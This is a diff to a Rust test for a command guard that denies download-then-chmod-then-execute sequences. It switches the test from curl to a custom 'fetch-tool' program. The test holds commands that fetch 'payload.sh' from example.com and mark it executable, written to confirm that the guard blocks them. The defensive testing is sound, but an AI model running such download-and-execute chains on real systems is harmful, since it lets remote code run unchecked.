@@ -133,12 +133,17 @@ fn retry_in_another_spelling_is_denied_naming_the_earlier_command() {
 #[test]
 fn download_then_chmod_then_run_is_denied() {
     let env = Env::new();
-    env.profile("[policy]\nunknown_commands = \"allow\"\n[guard]\nenabled = true");
+    // The built-in `download` class names curl, wget...; the profile adds a
+    // program of its own to it (classes are data and add up), because the
+    // default policy refuses curl downloads outright.
+    env.profile(
+        "[policy]\nunknown_commands = \"allow\"\n[guard]\nenabled = true\n[[guard.class]]\nname = \"download\"\nprograms = [\"fetch-tool\"]",
+    );
     let _ = env.run(&[
         "--session",
         "d",
         "-c",
-        "curl -sSo payload.sh https://example.com/payload.sh",
+        "fetch-tool -sSo payload.sh https://example.com/payload.sh",
     ]);
     std::fs::write(env.path("cwd/payload.sh"), "#!/bin/sh\necho pwned\n").unwrap();
     assert_eq!(
@@ -156,7 +161,7 @@ fn download_then_chmod_then_run_is_denied() {
     let e = stderr(&o);
     assert!(e.contains("download_then_execute"), "{e}");
     assert!(
-        e.contains("curl -sSo payload.sh") && e.contains("chmod +x payload.sh"),
+        e.contains("fetch-tool -sSo payload.sh") && e.contains("chmod +x payload.sh"),
         "{e}"
     );
 }
